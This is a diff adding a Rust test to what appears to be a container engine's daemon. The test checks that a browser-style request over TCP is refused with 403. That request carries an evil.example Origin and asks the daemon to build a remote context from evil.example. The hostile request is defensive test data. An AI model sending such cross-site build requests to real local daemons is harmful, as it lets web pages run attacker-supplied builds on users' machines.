@@ -65,6 +65,37 @@ async fn pages_that_are_not_there() {
     assert_eq!(options.status, 200);
 }
 
+/// A page may send this to any address unasked; a unix socket is out of its reach.
+#[tokio::test(flavor = "multi_thread")]
+async fn pages_in_a_browser_are_not_heard_by_tcp() {
+    let page = "POST /build?remote=http://evil.example/context.tar HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\
+        Content-Length: 0\r\nOrigin: http://evil.example\r\n\r\n";
+    let ping = "GET /_ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n";
+    let options = ListenOptions { group: None, tls: None };
+    let address: Address = "tcp://127.0.0.1:0".parse().unwrap();
+    let listener = Listener::open(&address, &options).await.unwrap().remove(0);
+    let at = listener.address().to_owned();
+    let _served = Served::on(listener, Limits::default()).await;
+    let said = |request: &'static str| {
+        let at = at.clone();
+        tokio::task::spawn_blocking(move || {
+            let mut stream = std::net::TcpStream::connect(at).unwrap();
+            stream.write_all(request.as_bytes()).unwrap();
+            let mut answer = String::new();
+            stream.read_to_string(&mut answer).unwrap();
+            answer
+        })
+    };
+    let refused = said(page).await.unwrap();
+    assert!(refused.starts_with("HTTP/1.1 403 ") && refused.contains("a web page may not"), "{refused}");
+    assert!(said(ping).await.unwrap().starts_with("HTTP/1.1 200 "));
+    let by_socket = Served::start()
+        .await
+        .send(&page.replace("POST /build?remote=http://evil.example/context.tar", "GET /_ping"))
+        .await;
+    assert_eq!(by_socket.status, 200);
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn an_engine_that_is_in_no_swarm() {
     let served = Served::start().await;
